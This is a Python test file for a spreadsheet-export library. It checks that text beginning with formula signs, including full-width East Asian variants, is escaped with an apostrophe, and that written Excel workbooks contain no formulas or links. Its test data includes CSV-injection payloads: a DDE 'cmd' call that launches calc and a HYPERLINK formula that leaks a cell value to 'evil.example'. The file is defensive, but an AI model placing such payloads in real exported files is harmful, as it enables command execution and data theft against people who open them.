"""Sheets that people open: no text of somebody else becomes a formula there, and no number becomes text."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import polars as pl
import pytest

from didymium.files.cells import harmless
from didymium.files.sheets import harmless_table
from didymium.views.iamc import write_excel

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1",
    "－1", "＠x", "=HYPERLINK(\"https://evil.example?\"&A1)", "-", "+", "-.5.5", "+1e5x",
)  # fmt: skip
PLAIN = ("", "Japan", "a=b", "1+1", "-5", "+0.5", "-.5", "-1e-9", "'=1", "#N/A", "−5", "한국", "5-7")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_an_apostrophe(text: str) -> None:
    """What OWASP lists under CSV injection, and the wide signs that East Asian spreadsheets take as well."""
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays(text: str) -> None:
    """Text, and numbers with their sign."""
    assert harmless(text) == text


def test_tables_as_texts() -> None:
    """A table is made harmless as its texts are; numbers, missing texts and dates stay what they are."""
    texts = [*FORMULAS, *PLAIN, None]
    table = pl.DataFrame({"text": texts, "number": [-float(n) for n in range(len(texts))]})
    found = harmless_table(table)
    assert found["text"].to_list() == [None if text is None else harmless(text) for text in texts]
    assert found["number"].equals(table["number"])


def test_a_workbook_holds_no_formula(tmp_path: Path) -> None:
    """Whatever the texts are, Excel gets them as strings: no cell has a formula, none is a link."""
    file = tmp_path / "x.xlsx"
    write_excel({"sheet": pl.DataFrame({"text": [*FORMULAS, "https://evil.example"]})}, file)
    with zipfile.ZipFile(io.BytesIO(file.read_bytes())) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert "'=1+1" in strings
